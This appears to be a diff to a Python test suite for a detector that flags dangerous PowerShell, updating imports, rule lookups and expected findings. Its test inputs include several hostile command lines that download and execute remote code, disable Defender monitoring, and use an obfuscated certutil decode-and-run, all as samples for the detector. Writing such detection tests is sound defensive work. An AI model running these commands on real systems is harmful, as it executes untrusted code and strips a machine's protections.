@@ -9,12 +9,12 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from guard.corpus import Pair, pairs
+from whet.guard.code.windows import check, plain
 from whet.guard.finding import LABELS, SEVERITIES, Finding, Seen, verdict
-from whet.guard.rules import pack
-from whet.guard.shell.windows import check, plain
+from whet.guard.rules import every, pack
 
 FAST = settings(max_examples=120, deadline=None)
-BY_ID = {rule.id: rule for rule in (*pack("shell"), *pack("windows"))}
+BY_ID = every()
 OURS = [pair for pair in pairs() if pair.pack == "windows"]
 
 
@@ -58,7 +58,7 @@ def test_every_rule_has_a_pair() -> None:
         ("$c = (New-Object Net.WebClient).DownloadString('http://203.0.113.5/x')\nInvoke-Expression $c", "pipe-shady"),
         (
             "(New-Object Net.WebClient).DownloadFile('http://203.0.113.5/a.exe','C:\\T\\a.exe'); & C:\\T\\a.exe",
-            "pipe-shady",
+            "runs-download",
         ),
         ("Set-MpPreference -DisableRealtimeMonitoring $true", "defender-off"),
         ("c^ert^util -decode a.txt a.exe && start a.exe", "system-tool-download"),
@@ -113,7 +113,7 @@ def test_honest_scripts_stay_quiet(text: str) -> None:
 
 def test_lines_keep_their_numbers_over_continuations() -> None:
     text = "$a = 1\nWrite-Host `\n  'one'\n\niwr http://203.0.113.5/a.ps1 `\n  | iex\n"
-    assert [(hit.rule, hit.line) for hit in check(text).hits] == [("pipe-shady", 5)]
+    assert [(hit.rule, hit.line) for hit in check(text).hits] == [("pipe-shady", 6)]
 
 
 @pytest.mark.parametrize(
